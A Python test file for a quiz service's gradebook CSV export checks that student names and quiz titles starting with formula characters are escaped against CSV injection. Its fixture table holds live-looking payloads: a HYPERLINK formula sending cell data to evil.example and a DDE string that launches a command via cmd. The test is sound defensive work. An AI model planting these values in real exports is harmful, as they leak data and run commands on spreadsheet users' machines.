"""The gradebook CSV: text that students and instructors typed never reaches a spreadsheet as a
formula (OWASP, CSV injection); plain text and the scores are exported unchanged."""

from __future__ import annotations

import csv
import io

from helpers import login, make_user
from sqlalchemy import select

from quizsvc.db import get_session
from quizsvc.models import CourseRole, User
from quizsvc.services import courses, quizzes

NAMES = {
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "김 = 학생": "김 = 학생",  # a formula character later on is harmless
    "Ann-Marie": "Ann-Marie",
}


def test_gradebook_csv_escapes_cells_a_spreadsheet_would_evaluate(app, client):
    with app.app_context():
        s = get_session()
        prof = make_user(s, "prof@example.com", instructor=True)
        course = courses.create_course(s, prof, "c1", "강좌")
        quizzes.create_quiz(s, prof, course, {"slug": "q1", "title": "=1+1 quiz"})
        for i, name in enumerate(NAMES):
            student = make_user(s, f"s{i}@example.com")
            student.name = name  # as stored, whatever a form or an import let through
            s.commit()
            courses.enroll(s, student, course, CourseRole.STUDENT)
        weird = make_user(s, "=1+1@example.com")
        courses.enroll(s, weird, course, CourseRole.STUDENT)
        course_id = course.id
    login(client, "prof@example.com")
    r = client.get(f"/staff/courses/{course_id}/gradebook?format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    assert rows[0] == ["name", "email", "'=1+1 quiz (/0)", "total"]
    exported = {row[1]: row[0] for row in rows[1:]}
    with app.app_context():
        by_email = {u.email: u.name for u in get_session().scalars(select(User))}
    for i, name in enumerate(NAMES):
        assert exported[f"s{i}@example.com"] == NAMES[name], name
    assert "'=1+1@example.com" in exported
    assert all(row[-1] == "0" for row in rows[1:])  # numbers stay numbers
    assert by_email["s0@example.com"].startswith("=HYPERLINK")  # stored as typed: only the export escapes
